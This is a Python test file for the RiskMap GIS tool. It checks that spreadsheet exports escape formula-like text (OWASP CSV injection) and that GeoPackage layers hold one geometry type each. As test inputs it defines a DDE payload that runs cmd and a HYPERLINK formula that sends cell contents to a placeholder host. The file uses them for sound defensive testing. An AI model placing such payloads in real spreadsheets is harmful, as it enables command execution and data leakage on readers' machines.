"""No file RiskMap writes for spreadsheets can attack its reader (OWASP CSV injection), and every GIS
layer has one geometry type: templates, reject files, the audit CSV and the file-mode check output."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
from pathlib import Path

import geopandas as gpd
import pytest
import shapely
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from geo import store
from geo.cells import FORMULA_PREFIXES, append_row, csv_row, csv_text, starts_like_formula
from geo.checks.output import write_findings
from geo.checks.runner import CheckResult
from geo.checks.sources import bundle_from_store, bundle_to_file
from geo.credit_code import check_character
from geo.importer import import_file
from geo.layer_specs import layer_spec
from layers.templates import header_text, template_fields, write_templates

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"


def _geometries(path: Path) -> dict[str, str]:
    out = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(path)], capture_output=True, text=True, check=True).stdout
    return {block.splitlines()[0].strip(): re.search(r"^Geometry: (.+)$", block, re.M).group(1)  # type: ignore[union-attr]
            for block in re.split(r"^Layer name: ", out, flags=re.M)[1:]}


def test_formula_like_text_is_recognised_and_neutralised() -> None:
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")
    for text in (HYPERLINK, DDE, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-"):
        assert starts_like_formula(text)
        assert csv_text(text) == "'" + text
    for value in ("安宁市", " =1", "a=1", "", "'=1", -3.5, 0, None, dt.date(2026, 1, 1)):
        assert not starts_like_formula(value)
        assert csv_text(value) == value  # numbers (also negative ones) and ordinary text are unchanged
    assert csv_row([DDE, -2, "x"]) == ["'" + DDE, -2, "x"]


def test_append_row_never_writes_a_formula() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    append_row(ws, ["名称", "数量"])
    append_row(ws, [HYPERLINK, -2])
    append_row(ws, [])
    append_row(ws, [DDE, 3.5])
    buffer = io.BytesIO()
    wb.save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert back is not None
    cells = {c.coordinate: c for row in back.iter_rows() for c in row if c.value is not None}
    assert [c.value for c in cells.values()] == ["名称", "数量", HYPERLINK, -2, DDE, 3.5]
    assert all(c.data_type != "f" for c in cells.values())
    assert cells["A2"].data_type == "s" and cells["A2"].quotePrefix and cells["A4"].quotePrefix
    assert cells["B2"].data_type == "n" and not cells["A1"].quotePrefix


def test_templates_have_no_formula_cells(tmp_path: Path) -> None:
    paths = write_templates(tmp_path)
    assert len(paths) >= 10
    for path in paths:
        wb = load_workbook(path)
        for ws in wb.worksheets:
            formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
            assert formulas == [], (path.name, ws.title)


def test_file_mode_findings_have_one_geometry_type_per_layer(tmp_path: Path) -> None:
    findings = gpd.GeoDataFrame(
        {"rule_code": ["PIPE_CROSSING", "ESD_DECLARED", "HCA_GAS", "MHS_UNDECLARED"],
         "subject_name": [DDE, "a", "b", "c"]},
        geometry=[shapely.Point(102.4, 24.9), shapely.LineString([(102.4, 24.9), (102.41, 24.91)]),
                  shapely.MultiLineString([[(102.5, 24.9), (102.6, 24.9)], [(102.7, 24.9), (102.8, 24.9)]]),
                  shapely.box(102.3, 24.8, 102.31, 24.81)], crs=4490)
    out = write_findings(CheckResult(findings, None, "test-1", []), tmp_path / "findings.gpkg")
    assert _geometries(out) == {"check_findings_pt": "Point", "check_findings_ln": "Multi Line String",
                                "check_findings_pg": "Polygon"}
    lines = write_findings(CheckResult(findings.iloc[[1, 2]], None, "test-1", []), tmp_path / "lines.gpkg")
    assert _geometries(lines) == {"check_findings": "Multi Line String"}  # one family keeps the plain name


@pytest.mark.postgis
def test_cli_file_mode_output_has_no_mixed_layer(demo_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from riskmap.cli import main

    gpkg = bundle_to_file(bundle_from_store(store.make_engine(demo_db)), tmp_path / "in.gpkg")
    out = tmp_path / "findings.gpkg"
    monkeypatch.delenv("RISKMAP_DATABASE_URL", raising=False)
    result = CliRunner().invoke(main, ["check", "--input", str(gpkg), "--output", str(out), "--as-of", "2026-11-01"])
    assert result.exit_code == 0, result.output
    geometries = _geometries(out)
    assert {"check_findings_pt", "check_findings_ln"} <= set(geometries)  # the demo's findings mix points and lines
    assert "Unknown (any)" not in geometries.values() and "Geometry Collection" not in geometries.values()


@pytest.mark.postgis
def test_reject_file_and_audit_csv_are_neutralised(engine, tmp_path: Path) -> None:
    from dashboard.pages.audit import csv_bytes

    fields = template_fields(layer_spec("enterprises"))
    good = {header_text(f): f.example for f in fields}
    body = "91530181MA6K5XYW2"
    bad = {**good, header_text(layer_spec("enterprises").field("credit_code")): body + check_character(body),
           header_text(layer_spec("enterprises").field("name")): HYPERLINK}
    source = tmp_path / "企业.csv"
    with source.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(good))
        writer.writeheader()
        writer.writerows([good, bad])
    report = import_file(engine, "enterprises", source, actor="test", skip_invalid=True)
    assert report.reject_file is not None
    rows = list(csv.reader(Path(report.reject_file).read_text(encoding="utf-8-sig").splitlines()))
    name_col = rows[0].index(header_text(layer_spec("enterprises").field("name")))
    assert [r[name_col] for r in rows[1:]] == ["'" + HYPERLINK]

    with engine.begin() as conn:
        store.audit(conn, actor="tester", action="export", target=DDE, adcode="530181", details={"file": HYPERLINK})
    frame, _ = store.read_audit(engine, limit=None)
    lines = list(csv.reader(csv_bytes(frame, {"530181": "安宁市"}, "zh").decode("utf-8-sig").splitlines()))
    targets = [r[4] for r in lines[1:]]
    assert "'" + DDE in targets and DDE not in targets
    assert all(not cell.startswith(FORMULA_PREFIXES) for r in lines for cell in r)
